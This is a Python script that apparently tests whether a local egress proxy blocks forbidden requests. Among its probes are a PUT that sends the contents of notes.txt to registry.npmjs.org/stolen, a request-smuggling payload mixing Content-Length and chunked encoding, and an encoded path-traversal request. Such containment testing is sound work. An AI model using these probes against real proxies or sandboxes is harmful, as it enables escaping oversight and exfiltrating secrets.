# Asks the proxy for what it must not give; says "reached" for each answer that is no refusal.
import json, os, re, socket

targets = json.load(open("attack/targets.json"))


def ask(request):
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as one:
        one.settimeout(10)
        one.connect(("127.0.0.1", 3128))
        one.sendall(request.encode("latin1"))
        return one.recv(65536).decode("latin1")


def attempt(name, request):
    try:
        answer = ask(request)
    except OSError as error:
        return print("refused", name, error)
    status = re.match(r"HTTP/1\.1 (\d+)", answer)
    good = status is not None and int(status[1]) < 400
    print("reached" if good else "refused", name, answer.split("\r\n")[0][:200], flush=True)


for authority in targets["tunnels"]:
    attempt(f"tunnel {authority}", f"CONNECT {authority} HTTP/1.1\r\nHost: {authority}\r\n\r\n")
for url in targets["plain"]:
    host = re.sub(r"^http://([^/]*).*", r"\1", url)
    attempt(f"plain {url}", f"GET {url} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n")
secret = open("notes.txt").read().strip()
attempt("publishing", f"PUT http://registry.npmjs.org/stolen HTTP/1.1\r\nHost: registry.npmjs.org\r\nContent-Length: {len(secret)}\r\n\r\n{secret}")
attempt("an upgrade", "GET / HTTP/1.1\r\nHost: a\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n")
attempt("smuggling", "GET http://registry.npmjs.org/x HTTP/1.1\r\nHost: registry.npmjs.org\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n")
for path in ["/api/v1/tasks", "/healthz", "/npm/..%2f..%2fapi", "//127.0.0.1/"]:
    attempt(f"path {path}", f"GET {path} HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n")
